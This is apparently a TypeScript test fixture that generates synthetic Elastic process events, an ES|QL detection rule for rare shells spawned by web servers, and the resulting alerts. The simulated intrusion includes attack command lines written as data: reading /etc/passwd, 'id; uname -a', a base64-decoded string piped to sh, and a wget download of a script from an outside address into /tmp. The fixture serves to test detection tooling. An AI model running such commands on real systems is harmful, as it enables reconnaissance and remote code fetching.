/**
 * What the fake Kibana holds: two hours of process events of four web servers, a rule of our own, and the alerts that two runs
 * of it made. Everything is computed from constants, so that every start and every test sees the same bytes.
 *
 * The intrusion is small: four commands below php-fpm on web-03. Around it stand routine jobs, a command that runs on two
 * hosts, one that runs five times, and events that fail one condition each: what the panel has to tell apart.
 */
export type Cell = string | number | boolean
/** A document as flat dotted fields; `_source` and `fields` are made from it. */
export interface Doc {
  id: string
  index: string
  fields: Record<string, Cell | Cell[]>
}

export const RULE_UUID = '0f6e2c64-2b51-4a86-9a0f-6c1d5a7b9e10'
export const RULE_NAME = 'Rare shell below a web server'
export const EVENT_INDEX = '.ds-logs-endpoint.events.process-default-2026.11.20-000012'
export const ALERT_INDEX = '.internal.alerts-security.alerts-default-000001'
/** When the second of the two runs started, and the length of its window. */
export const RUN_AT = Date.parse('2026-11-23T10:05:12.000Z')
const HOUR = 3_600_000
const MINUTE = 60_000

export const RULE_QUERY = `FROM logs-endpoint.events.process-* METADATA _id, _index, _version
| WHERE host.os.type == "linux"
    AND event.action == "exec"
    AND process.name IN ("sh", "bash", "dash")
    AND process.command_line LIKE "* -c *"
    AND process.parent.name IN ("nginx", "apache2", "php-fpm8.2")
    AND process.working_directory != "/"
| STATS
    Esql.event_count = COUNT(*),
    Esql.agent_id_count_distinct = COUNT_DISTINCT(agent.id),
    Esql.host_name_values = VALUES(host.name),
    Esql.agent_id_values = VALUES(agent.id)
  BY process.command_line, process.working_directory, process.parent.executable
| WHERE Esql.agent_id_count_distinct == 1 AND Esql.event_count < 5
| EVAL agent.id = MV_MIN(Esql.agent_id_values), host.name = MV_MIN(Esql.host_name_values)
| KEEP agent.id, host.name, process.command_line, process.working_directory, process.parent.executable, Esql.*`

interface Start {
  at: number
  host: number
  command: string
  directory?: string | null
  parent?: string
  action?: string
  user?: string
}

const PARENTS: Record<string, string> = {
  'php-fpm8.2': '/usr/sbin/php-fpm8.2',
  nginx: '/usr/sbin/nginx',
  apache2: '/usr/sbin/apache2',
  cron: '/usr/sbin/cron'
}

/** The starts of processes, in order of time. */
function starts(): Start[] {
  const from = RUN_AT - 2 * HOUR
  const list: Start[] = []
  for (let minute = 0; minute < 118; minute++) {
    list.push({ at: from + minute * MINUTE + 5000, host: 1 + (minute % 3), command: 'sh -c php artisan schedule:run' })
    if (minute % 30 === 9)
      for (let host = 1; host <= 4; host++)
        list.push({ at: from + minute * MINUTE + 9000 + host, host, command: 'sh -c /usr/lib/php/sessionclean', directory: '/' })
    if (minute % 12 === 7)
      list.push({
        at: from + minute * MINUTE + 21_000,
        host: 4,
        command: 'sh -c test -x /usr/sbin/anacron',
        parent: 'cron',
        user: 'root'
      })
  }
  // The first stands in the minute that both windows share: the same finding twice.
  list.push({ at: RUN_AT - 60.5 * MINUTE, host: 3, command: 'sh -c cat /etc/passwd' })
  list.push({ at: RUN_AT - 31 * MINUTE, host: 3, command: 'sh -c id; uname -a' })
  list.push({ at: RUN_AT - 30 * MINUTE, host: 3, command: 'sh -c cat /etc/passwd' })
  list.push({
    at: RUN_AT - 28 * MINUTE,
    host: 3,
    command: 'bash -c echo d2hvYW1p|base64 -d|sh',
    directory: '/var/www/shop/uploads'
  })
  list.push({ at: RUN_AT - 27 * MINUTE, host: 3, command: 'sh -c wget -q http://198.51.100.7/x.sh -O /tmp/.x' })
  // Nearly: on two agents; five times; no directory; the root directory; a fork.
  list.push(
    { at: RUN_AT - 25 * MINUTE, host: 1, command: 'sh -c df -h /var' },
    { at: RUN_AT - 24 * MINUTE, host: 2, command: 'sh -c df -h /var' }
  )
  for (let i = 0; i < 5; i++) list.push({ at: RUN_AT - (22 - i) * MINUTE, host: 2, command: 'sh -c convert in.png out.webp' })
  list.push({ at: RUN_AT - 15 * MINUTE, host: 3, command: 'sh -c ls -la /opt', directory: null })
  list.push({ at: RUN_AT - 14 * MINUTE, host: 3, command: 'sh -c pgrep -a mysqld', directory: '/' })
  list.push({ at: RUN_AT - 13 * MINUTE, host: 3, command: 'sh -c ss -ltnp', action: 'fork' })
  return list.sort((a, b) => a.at - b.at)
}

const two = (n: number) => String(n).padStart(2, '0')

function event(start: Start, at: number): Doc {
  const { command, host, parent = 'php-fpm8.2', directory = '/var/www/shop', action = 'exec', user = 'www-data' } = start
  const time = new Date(start.at).toISOString()
  const name = command.split(' ', 1)[0]!
  const fields: Doc['fields'] = {
    '@timestamp': time,
    'agent.id': `agent-${two(host)}`,
    'agent.type': 'endpoint',
    'data_stream.dataset': 'endpoint.events.process',
    'data_stream.namespace': 'default',
    'data_stream.type': 'logs',
    'event.action': action,
    'event.category': ['process'],
    'event.dataset': 'endpoint.events.process',
    'event.id': `N${at}`,
    'event.ingested': new Date(start.at + 4000).toISOString(),
    'event.kind': 'event',
    'event.type': ['start'],
    'host.id': `host-${two(host)}`,
    'host.name': `web-${two(host)}`,
    'host.os.type': 'linux',
    'process.args': [name, '-c', command.slice(command.indexOf('-c ') + 3)],
    'process.command_line': command,
    'process.entity_id': `E${at}`,
    'process.executable': name === 'bash' ? '/usr/bin/bash' : '/usr/bin/dash',
    'process.name': name,
    'process.parent.entity_id': `P${host}-${parent}`,
    'process.parent.executable': PARENTS[parent]!,
    'process.parent.name': parent,
    'process.parent.pid': 800 + host,
    'process.pid': 4000 + at,
    'user.id': user === 'root' ? '0' : '33',
    'user.name': user
  }
  if (directory !== null) fields['process.working_directory'] = directory
  return { id: `AZev${String(at).padStart(16, '0')}`, index: EVENT_INDEX, fields }
}

/** All process events, oldest first. */
export const EVENTS: readonly Doc[] = starts().map(event)

interface Row {
  command: string
  directory: string
  parent: string
  events: Doc[]
}

/** The rule's rows in the window that ends at `runAt`, computed here and not by the engine that is under test. */
function rowsOf(runAt: number): Row[] {
  const rows = new Map<string, Row>()
  for (const doc of EVENTS) {
    const f = doc.fields
    const at = Date.parse(String(f['event.ingested']))
    const directory = f['process.working_directory']
    if (at < runAt - 61 * MINUTE || at > runAt || f['event.action'] !== 'exec' || directory === undefined || directory === '/')
      continue
    if (!['nginx', 'apache2', 'php-fpm8.2'].includes(String(f['process.parent.name']))) continue
    const row: Row = {
      command: String(f['process.command_line']),
      directory: String(directory),
      parent: String(f['process.parent.executable']),
      events: []
    }
    const key = JSON.stringify([row.command, row.directory, row.parent])
    if (!rows.has(key)) rows.set(key, row)
    rows.get(key)!.events.push(doc)
  }
  const agents = (row: Row) => new Set(row.events.map((doc) => doc.fields['agent.id'])).size
  return [...rows.values()].filter((row) => agents(row) === 1 && row.events.length < 5)
}

/** An id of 40 hex digits from a text: what Kibana's hash looks like, not how it is made. */
function hexId(text: string): string {
  let a = 0x811c9dc5
  let id = ''
  for (let round = 0; id.length < 40; round++) {
    for (let i = 0; i < text.length; i++) a = Math.imul(a ^ text.charCodeAt(i) ^ round, 0x01000193) >>> 0
    id += a.toString(16).padStart(8, '0')
  }
  return id.slice(0, 40)
}

function alert(rule: Record<string, unknown>, at: number, seed: string, columns: Doc['fields']): Doc {
  const id = hexId(seed)
  const time = new Date(at + 345).toISOString()
  return {
    id,
    index: ALERT_INDEX,
    fields: {
      '@timestamp': time,
      'event.kind': 'signal',
      'kibana.alert.depth': 1,
      'kibana.alert.intended_timestamp': time,
      'kibana.alert.reason': `event on ${columns['host.name'] ?? 'a host'} created ${rule['severity']} alert ${rule['name']}.`,
      'kibana.alert.risk_score': 47,
      'kibana.alert.rule.category': `Custom ${rule['type'] === 'esql' ? 'ES|QL' : 'Query'} Rule`,
      'kibana.alert.rule.consumer': 'siem',
      'kibana.alert.rule.from': 'now-61m',
      'kibana.alert.rule.interval': '1h',
      'kibana.alert.rule.max_signals': 100,
      'kibana.alert.rule.name': String(rule['name']),
      'kibana.alert.rule.parameters': rule as never,
      'kibana.alert.rule.rule_id': String(rule['rule_id']),
      'kibana.alert.rule.timestamp_override': 'event.ingested',
      'kibana.alert.rule.to': 'now',
      'kibana.alert.rule.type': String(rule['type']),
      'kibana.alert.rule.uuid': String(rule['uuid']),
      'kibana.alert.severity': String(rule['severity']),
      'kibana.alert.status': 'active',
      'kibana.alert.uuid': id,
      'kibana.alert.workflow_status': 'open',
      'kibana.space_ids': ['default'],
      ...columns
    }
  }
}

/** Rule parameters as an alert carries them. */
export const RULE = {
  name: RULE_NAME,
  uuid: RULE_UUID,
  rule_id: '7c5d3d0e-40e5-4a52-8f47-0a9a1f6f2d33',
  type: 'esql',
  language: 'esql',
  severity: 'medium',
  risk_score: 47,
  from: 'now-61m',
  to: 'now',
  max_signals: 100,
  description: 'A shell with -c that a web server started, seen fewer than five times on one agent.',
  query: RULE_QUERY
}

/** An alert of another kind, to show what the panel says then. */
const QUERY_RULE = {
  ...RULE,
  name: 'Login from a new network',
  uuid: '5b0a7d0e-9f5c-4f21-8a44-1f7a3b8e6c21',
  rule_id: '2f1b4a35-6a0c-4b8c-93b9-6a2cf5d7c0aa',
  type: 'query',
  language: 'kuery',
  query: 'event.category : authentication and event.outcome : success'
}

function one<T>(values: readonly T[]): T | T[] {
  return values.length === 1 ? values[0]! : [...values]
}

function alertsOfRun(runAt: number): Doc[] {
  return rowsOf(runAt).map((row, i) => {
    const hosts = [...new Set(row.events.map((doc) => String(doc.fields['host.name'])))]
    const agents = [...new Set(row.events.map((doc) => String(doc.fields['agent.id'])))]
    return alert(RULE, runAt, `${runAt}|${i}`, {
      'agent.id': agents[0]!,
      'host.name': hosts[0]!,
      'process.command_line': row.command,
      'process.working_directory': row.directory,
      'process.parent.executable': row.parent,
      'Esql.event_count': row.events.length,
      'Esql.agent_id_count_distinct': agents.length,
      'Esql.host_name_values': one(hosts),
      'Esql.agent_id_values': one(agents)
    })
  })
}

/** All alerts, newest first. */
export const ALERTS: readonly Doc[] = [
  ...alertsOfRun(RUN_AT),
  alert(QUERY_RULE, RUN_AT - 20 * MINUTE, 'query', { 'host.name': 'vpn-01', 'user.name': 'mara', 'source.ip': '203.0.113.9' }),
  ...alertsOfRun(RUN_AT - HOUR)
]

/** The alert most tests open: one event of fewer than five, one agent. */
export const GOLDEN_ALERT = ALERTS.find((doc) => doc.fields['process.command_line'] === 'sh -c id; uname -a')!
/** The finding that both runs reported. */
export const TWICE = ALERTS.filter((doc) => doc.fields['process.command_line'] === 'sh -c cat /etc/passwd')
